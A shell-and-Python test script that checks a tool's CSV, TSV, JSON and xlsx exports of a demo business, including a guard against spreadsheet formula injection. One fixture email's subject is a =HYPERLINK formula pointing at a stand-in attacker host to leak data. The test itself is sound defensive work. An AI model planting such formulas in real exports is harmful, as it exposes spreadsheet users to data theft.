#!/bin/sh
# check_export_columns.sh - the exports as a spreadsheet user and a script
# see them, on the demo business (fixtures/demo) plus one client message
# whose subject is a formula. Checks: doc/exports.md is what
# `export --columns all --format md` prints; every column `--columns TABLE`
# lists is in every format, in that order; every export joins to clients
# on client, and names the client too (client_name); the added columns
# hold what was worked out by hand (local time in Europe/Paris, hours,
# decimal amounts); the formula guard and --raw; JSON numbers and dates;
# the xlsx workbook read from its zip and sheet XML: dates are date serials
# with a date format, amounts numbers with 2 decimals, a share a
# percentage, the =HYPERLINK(...) subject a text cell. Prints TAP.
#
# Needs REDFLAG and FIXTURES, as `make check` sets them, and python3 (its
# standard library only: csv, json, zipfile, xml).
set -u
if [ -z "${REDFLAG:-}" ] || [ -z "${FIXTURES:-}" ]; then
    echo "1..0 # SKIP REDFLAG and FIXTURES are set by make check"
    exit 0
fi
if ! command -v python3 >/dev/null 2>&1; then
    echo "1..0 # SKIP python3 is not installed (scripts/setup installs it)"
    exit 0
fi
tmp=$(mktemp -d "${TMPDIR:-/tmp}/rf-columns.XXXXXX")
trap 'rm -rf "$tmp"' EXIT
trap 'exit 1' INT TERM
demo="$FIXTURES/demo"
db="$tmp/demo.db"

# One more message from Harbor Bakery: a subject a spreadsheet would run,
# and a remittance advice of theirs attached (a camt.054: a client's
# document, listed in `documents` as received, never a payment of ours).
mkdir -p "$tmp/extra/cur" "$tmp/extra/new" "$tmp/extra/tmp"
cat >"$tmp/extra/cur/1795000001.M1P1Q1.extra:2,S" <<'EOF'
From: Tom Baker <tom@harbor-bakery.example>
To: lea@studio-nord.example
Subject: =HYPERLINK("http://evil.example/?leak","menu")
Date: Thu, 01 Oct 2026 09:00:00 +0200
Message-ID: <formula-subject@harbor-bakery.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b-remit"

--b-remit
Content-Type: text/plain; charset=us-ascii

Please see the link.
--b-remit
Content-Type: text/xml; name="avis-SN-2026-050.xml"
Content-Disposition: attachment; filename="avis-SN-2026-050.xml"
Content-Transfer-Encoding: base64

PD94bWwgdmVyc2lvbj0iMS4wIiBlbmNvZGluZz0iVVRGLTgiPz4KPERvY3VtZW50IHhtbG5zPSJ1
cm46aXNvOnN0ZDppc286MjAwMjI6dGVjaDp4c2Q6Y2FtdC4wNTQuMDAxLjA4Ij48QmtUb0NzdG1y
RGJ0Q2R0TnRmY3RuPjxHcnBIZHI+PE1zZ0lkPkhCLVJFTUlULTIwMjYtMTA8L01zZ0lkPjxDcmVE
dFRtPjIwMjYtMTAtMDFUMDg6NTU6MDArMDI6MDA8L0NyZUR0VG0+PC9HcnBIZHI+PC9Ca1RvQ3N0
bXJEYnRDZHROdGZjdG4+PC9Eb2N1bWVudD4K
--b-remit--
EOF

"$REDFLAG" scan --quiet --db "$db" --config "$demo/redflag.conf" --as-of 2026-11-20 \
    "$demo/mail" "$tmp/extra" --invoices "$demo/invoices" --payments "$demo/payments" 2>"$tmp/scan.err" \
    || { echo "1..1"; echo "not ok 1 - scan of the demo"; sed 's/^/# /' "$tmp/scan.err"; exit 0; }

# Every table, in every format, and its column list.
mkdir -p "$tmp/out"
tables=$("$REDFLAG" export --help | sed -n '/^Tables:/,/^$/p' | awk 'NR > 1 && NF { print $1 }')
for t in $tables; do
    "$REDFLAG" export "$t" --db "$db" --format csv --out "$tmp/out/$t.csv"
    "$REDFLAG" export "$t" --db "$db" --format csv --raw --out "$tmp/out/$t.raw.csv"
    "$REDFLAG" export "$t" --db "$db" --format tsv --out "$tmp/out/$t.tsv"
    "$REDFLAG" export "$t" --db "$db" --format json --out "$tmp/out/$t.json"
    "$REDFLAG" export --columns "$t" --db "$tmp/none.db" >"$tmp/out/$t.columns"
done
"$REDFLAG" export --columns all --format md --db "$tmp/none.db" >"$tmp/exports.md"
"$REDFLAG" export --all --format xlsx --out "$tmp/out/all.xlsx" --db "$db"
"$REDFLAG" report --format json --db "$db" >"$tmp/out/report.json"
"$REDFLAG" report --format json --client brutal --db "$db" >"$tmp/out/brutal.json"
"$REDFLAG" report --format xml --db "$db" >/dev/null 2>&1
echo $? >"$tmp/report-xml.rc"
"$REDFLAG" export --columns nosuch --db "$db" >/dev/null 2>&1
echo $? >"$tmp/unknown.rc"
# Without libxlsxwriter (opened when the first workbook is made).
REDFLAG_XLSXWRITER="$tmp/no-such-libxlsxwriter.so" \
    "$REDFLAG" export --all --format xlsx --out "$tmp/nolib.xlsx" --db "$db" >/dev/null 2>"$tmp/nolib.err"
echo $? >"$tmp/nolib.rc"

python3 - "$tmp" "$FIXTURES/../doc/exports.md" $tables <<'EOF'
import csv, sys
tmp, doc, tables = sys.argv[1], sys.argv[2], sys.argv[3:]
out = tmp + "/out/"
n = 0
def check(ok, what, detail=""):
    global n
    n += 1
    print(("ok %d - %s" if ok else "not ok %d - %s") % (n, what))
    if not ok and detail:
        for line in str(detail).splitlines()[:20]:
            print("#   " + line)

def read_csv(path, delim=","):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f, delimiter=delim))

def columns(t):
    lines = open(out + t + ".columns", encoding="utf-8").read().splitlines()
    return [l.split()[0] for l in lines[3:] if l.strip()]

check(open(tmp + "/exports.md", encoding="utf-8").read() == open(doc, encoding="utf-8").read(),
      "doc/exports.md is what 'export --columns all --format md' prints (regenerate it with that command)")
check(open(tmp + "/unknown.rc").read().strip() == "2", "--columns of an unknown table exits 2")
import os
nolib = open(tmp + "/nolib.err", encoding="utf-8").read()
check(open(tmp + "/nolib.rc").read().strip() == "1" and "cannot write .xlsx files" in nolib
      and "libxlsxwriter4" in nolib and not os.path.exists(tmp + "/nolib.xlsx"),
      "xlsx without libxlsxwriter: exit 1, what to install, no file", nolib)

csvs = {t: read_csv(out + t + ".csv") for t in tables}
for t in tables:
    cols = columns(t)
    tsv = read_csv(out + t + ".tsv", "\t")
    check(len(cols) > 0 and csvs[t][0] == cols and tsv[0] == cols,
          "%s: CSV and TSV have the columns --columns lists, in order" % t,
          "columns: %s\ncsv:     %s" % (cols, csvs[t][0]))

clients = {r[1] for r in csvs["clients"][1:]}
check(len(clients) == 9 and "harbor" in clients, "clients: the 9 keys of the demo in column client", clients)
for t in tables:
    head, rows = csvs[t][0], csvs[t][1:]
    if "client" not in head:
        continue
    i = head.index("client")
    keys = {r[i] for r in rows if r[i]}
    check("client_name" in head and rows and keys <= clients,
          "%s: every client joins to clients.client, and client_name is there" % t,
          "not in clients: %s" % (keys - clients))

def row(t, col, value):
    head = csvs[t][0]
    for r in csvs[t][1:]:
        if r[head.index(col)] == value:
            return dict(zip(head, r))
    return {}

m = row("messages", "message_id", "20260304160200.bf32005477@mail.drain-media.example")
check((m.get("date_utc"), m.get("date_local"), m.get("client"), m.get("client_name")) ==
      ("2026-03-04T15:02:00Z", "2026-03-04T16:02:00+01:00", "drain", "Drain Media"),
      "messages: winter date in Paris is UTC+1, client is the key, client_name the name", m)
m = row("messages", "message_id", "009327ee-1324-b8f5-e174-7c6f8931a157@studio-nord.example")
check((m.get("date_local"), m.get("subject"), m.get("to")) ==
      ("2026-09-01T10:40:00+02:00", "Re: Point d'avancement", "camille.roux@creep-co.example"),
      "messages: summer date in Paris is UTC+2; subject and to", m)
# documents: Atelier Garance's six Factur-X invoices, each attached to the
# mail that sent it from billing@ at 10:00 Paris time on its issue date
# (fixtures/demo/README.md), and Harbor's remittance advice.
docs = csvs["documents"][1:]
check(len(docs) == 7, "documents: 6 invoices we sent and 1 document received", len(docs))
d = row("documents", "file_name", "SN-FX-2026-002.pdf")
check((d.get("message_id"), d.get("date_local"), d.get("client"), d.get("client_name"), d.get("direction"),
       d.get("kind"), d.get("use"), d.get("invoice_number"), d.get("reason"), d.get("subject")) ==
      ("4f96e17e-d9da-086e-5412-d7609143d830@studio-nord.example", "2026-07-03T10:00:00+02:00", "garance",
       "Atelier Garance", "sent", "invoice", "our_invoice", "SN-FX-2026-002", "",
       "Facture SN-FX-2026-002 (juillet 2026)"),
      "documents: SN-FX-2026-002.pdf, sent on 3 July, is our invoice SN-FX-2026-002 of garance", d)
numbers = {r[csvs["invoices"][0].index("invoice_number")] for r in csvs["invoices"][1:]}
sent = [dict(zip(csvs["documents"][0], r)) for r in docs if r[3] == "sent"]
check(sorted(x["invoice_number"] for x in sent) == ["SN-FX-2026-%03d" % i for i in range(1, 7)]
      and all(x["invoice_number"] in numbers and x["file_name"] == x["invoice_number"] + ".pdf" for x in sent),
      "documents: each sent PDF names its invoice, and joins to invoices.invoice_number", sent)
d = row("documents", "file_name", "avis-SN-2026-050.xml")
check((d.get("message_id"), d.get("client"), d.get("direction"), d.get("kind"), d.get("use"),
       d.get("invoice_number"), d.get("sha256")) ==
      ("formula-subject@harbor-bakery.example", "harbor", "received", "payment", "received", "",
       "b0888e50c0295749392ff774e82126117da0bc0562181abe2416756e21b23433"),
      "documents: Harbor's camt.054 is a received payment document, no invoice, its SHA-256", d)
r = row("replies", "reply_message_id", "ef6502ae-dfda-d3c3-d59f-8f4ab08cebdb@studio-nord.example")
check((r.get("latency_seconds"), r.get("latency_hours"), r.get("parent_date_local")) ==
      ("4800", "1.33", "2026-03-02T09:10:00+01:00"), "replies: 4800 s is 1.33 hours", r)
i = row("invoices", "invoice_number", "SN-2026-001")
check((i.get("amount_minor"), i.get("amount"), i.get("paid"), i.get("days_late")) ==
      ("180000", "1800.00", "1800.00", "-6"),
      "invoices: 180000 cents are 1800.00 EUR; a negative number is not guarded", i)
s = row("scores", "client", "brutal")
check((s.get("revenue_minor"), s.get("revenue"), s.get("our_latency_median_s"), s.get("our_latency_median_hours"))
      == ("540000", "5400.00", "20730", "5.76"), "scores: revenue in EUR, 20730 s are 5.76 hours", s)

f = row("messages", "message_id", "formula-subject@harbor-bakery.example")
raw = dict(zip(read_csv(out + "messages.raw.csv")[0],
               next(r for r in read_csv(out + "messages.raw.csv") if r[0] == "formula-subject@harbor-bakery.example")))
want = '=HYPERLINK("http://evil.example/?leak","menu")'
check(f.get("subject") == "'" + want, "a subject starting with = gets a leading ' in CSV", f.get("subject"))
check(raw.get("subject") == want, "--raw writes it as it is", raw.get("subject"))
tsv = read_csv(out + "messages.tsv", "\t")
check(any(r[8] == "'" + want for r in tsv[1:]), "the same in TSV")

# ---- JSON: one array of objects, the same columns in order, one per CSV row.
import json
for t in tables:
    data = json.load(open(out + t + ".json", encoding="utf-8"), object_pairs_hook=lambda p: p)
    check(len(data) == len(csvs[t]) - 1 and all([k for k, v in o] == columns(t) for o in data),
          "%s: JSON has one object per row, with the columns --columns lists" % t)
inv = {dict(o)["invoice_number"]: dict(o) for o in json.load(open(out + "invoices.json"), object_pairs_hook=lambda p: p)}
check((inv["SN-2026-001"]["amount_minor"], inv["SN-2026-001"]["amount"], inv["SN-2026-001"]["paid_date"],
       inv["SN-2026-001"]["due_date"]) == (180000, 1800.0, "2026-03-27", "2026-04-02"),
      "JSON: numbers are numbers, dates ISO 8601 text", inv["SN-2026-001"])
rep = json.load(open(out + "replies.json"))
check(any(r["latency_hours"] == 1.33 and r["client_name"] == "Drain Media" for r in rep),
      "JSON: 4800 s are 1.33 hours, a number")

# ---- xlsx, read as any reader would: the zip, the sheet XML, the styles.
import zipfile, re, datetime
import xml.etree.ElementTree as ET
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
      "r": "http://schemas.openxmlformats.org/officeDocument/2006/relationships"}
z = zipfile.ZipFile(out + "all.xlsx")
wb = ET.fromstring(z.read("xl/workbook.xml"))
rels = ET.fromstring(z.read("xl/_rels/workbook.xml.rels"))
target = {r.get("Id"): r.get("Target") for r in rels}
sheets = [(s.get("name"), "xl/" + target[s.get("{%s}id" % NS["r"])]) for s in wb.find("m:sheets", NS)]
check([s for s, _ in sheets] == ["About"] + tables, "xlsx: an About sheet, then one sheet per table",
      [s for s, _ in sheets])
styles = ET.fromstring(z.read("xl/styles.xml"))
codes = {int(f.get("numFmtId")): f.get("formatCode") for f in styles.iter("{%s}numFmt" % NS["m"])}
codes.update({0: "General", 2: "0.00", 10: "0.00%", 14: "mm-dd-yy"})
xf = [codes.get(int(x.get("numFmtId", "0")), "?") for x in styles.find("m:cellXfs", NS)]
shared = []
if "xl/sharedStrings.xml" in z.namelist():
    shared = ["".join(t.text or "" for t in si.iter("{%s}t" % NS["m"]))
              for si in ET.fromstring(z.read("xl/sharedStrings.xml"))]

def col_index(ref):
    letters = re.match(r"[A-Z]+", ref).group(0)
    i = 0
    for ch in letters:
        i = i * 26 + ord(ch) - 64
    return i - 1

def read_sheet(path):
    """Rows of cells: (kind, value, number format); kind string or number."""
    root = ET.fromstring(z.read(path))
    rows = []
    for r in root.iter("{%s}row" % NS["m"]):
        cells = {}
        for c in r.findall("m:c", NS):
            t, fmt = c.get("t"), xf[int(c.get("s", "0"))]
            if c.find("m:f", NS) is not None:
                cells[col_index(c.get("r"))] = ("formula", None, fmt)
            elif t == "inlineStr":
                cells[col_index(c.get("r"))] = ("string", "".join(x.text or "" for x in c.iter("{%s}t" % NS["m"])), fmt)
            elif t == "s":
                cells[col_index(c.get("r"))] = ("string", shared[int(c.find("m:v", NS).text)], fmt)
            elif t == "str":
                cells[col_index(c.get("r"))] = ("string", c.find("m:v", NS).text or "", fmt)
            else:
                cells[col_index(c.get("r"))] = ("number", float(c.find("m:v", NS).text), fmt)
        rows.append([cells.get(i, ("empty", None, "General")) for i in range(max(cells) + 1 if cells else 0)])
    return root, rows

book = {}
for name, path in sheets[1:]:
    root, rows = read_sheet(path)
    book[name] = rows
    head = [re.sub(r" \(Europe/Paris\)$", "", c[1]) for c in rows[0]]
    frozen = root.find(".//m:pane", NS)
    check(head == columns(name) and len(rows) == len(csvs[name])
          and frozen is not None and frozen.get("state") == "frozen" and frozen.get("ySplit") == "1"
          and root.find("m:autoFilter", NS) is not None
          and all(c[0] != "formula" for r in rows for c in r),
          "xlsx %s: the columns --columns lists, one row per CSV row, header frozen, autofilter, no formula" % name,
          head)

def cell(sheet, key_col, key, col):
    rows = book[sheet]
    head = [re.sub(r" \(.*\)$", "", c[1]) for c in rows[0]]
    for r in rows[1:]:
        if r[head.index(key_col)][1] == key:
            return r[head.index(col)]
    return None

def serial(y, mo, d, h=0, mi=0):
    return (datetime.datetime(y, mo, d, h, mi) - datetime.datetime(1899, 12, 30)).total_seconds() / 86400

def is_date_format(code):
    return bool(re.search(r"y", code)) and bool(re.search(r"d", code)) and "%" not in code

msg = "20260304160200.bf32005477@mail.drain-media.example"
c, l = cell("messages", "message_id", msg, "date_utc"), cell("messages", "message_id", msg, "date_local")
check(c[0] == "number" and abs(c[1] - serial(2026, 3, 4, 15, 2)) < 1e-6 and is_date_format(c[2])
      and "h" in c[2], "xlsx: date_utc is a date serial (2026-03-04 15:02) with a date-time format", c)
check(l[0] == "number" and abs(l[1] - serial(2026, 3, 4, 16, 2)) < 1e-6 and is_date_format(l[2]),
      "xlsx: date_local is the same instant in Paris (16:02), a date too", l)
check(book["messages"][0][6][1] == "date_local (Europe/Paris)", "xlsx: the local header names the zone",
      book["messages"][0][6])
d = cell("invoices", "invoice_number", "SN-2026-001", "issue_date")
check(d[0] == "number" and abs(d[1] - serial(2026, 3, 3)) < 1e-9 and is_date_format(d[2]),
      "xlsx: issue_date is a date serial with a date format", d)
a = cell("invoices", "invoice_number", "SN-2026-001", "amount")
check(a[0] == "number" and a[1] == 1800.0 and "0.00" in a[2] and "EUR" in a[2],
      "xlsx: amount is the number 1800 with 2 decimals and its currency", a)
sh = cell("scores", "client", "brutal", "revenue_share")
check(sh[0] == "number" and abs(sh[1] - 0.0827586206896552) < 1e-12 and sh[2].endswith("%"),
      "xlsx: revenue_share is a number with a percentage format", sh)
h = cell("replies", "reply_message_id", "ef6502ae-dfda-d3c3-d59f-8f4ab08cebdb@studio-nord.example", "latency_hours")
check(h[0] == "number" and h[1] == 1.33, "xlsx: latency_hours is the number 1.33", h)
f = cell("messages", "message_id", "formula-subject@harbor-bakery.example", "subject")
check(f is not None and f[0] == "string" and f[1] == want,
      "xlsx: the =HYPERLINK(...) subject is a text cell, exactly as sent (no ', no formula)", f)
about = read_sheet(sheets[0][1])[1]
labels = {r[0][1]: r[1][1] for r in about if len(r) > 1 and r[0][0] == "string"}
check(labels.get("analysis date") == "2026-11-20" and labels.get("time zone") == "Europe/Paris"
      and labels.get("window") == "2026-05-25 to 2026-11-20" and "redflag version" in labels
      and all(t in labels for t in tables),
      "xlsx About: database, analysis date, window, zone, version, and every sheet", labels)

# ---- report --format json: the report's clients, worst first, for scripts.
rj = json.load(open(out + "report.json"))
keys = [c["client"] for c in rj["clients"]]
check(rj["window"] == {"since": "2026-05-25", "until": "2026-11-20", "as_of": "2026-11-20"}
      and keys[0] == "brutal" and rj["clients"][0]["score"] == 100
      and rj["clients"][0]["recommendation"] == "exit" and set(keys) <= clients
      and [c["score"] for c in rj["clients"]] == sorted((c["score"] for c in rj["clients"]), reverse=True),
      "report --format json: the window, clients worst first (brutal 100, exit)", keys)
bj = json.load(open(out + "brutal.json"))
abuse = [f for f in bj["clients"][0]["findings"] if f["signal"] == "abuse"]
check(len(bj["clients"]) == 1 and abuse and abuse[0]["evidence_count"] == 4 and len(abuse[0]["evidence"]) == 4
      and abuse[0]["severity"] == "critical",
      "report --format json --client brutal: abuse, critical, with its 4 pieces of evidence")
check(open(tmp + "/report-xml.rc").read().strip() == "2", "report --format xml exits 2")
print("1..%d" % n)
EOF
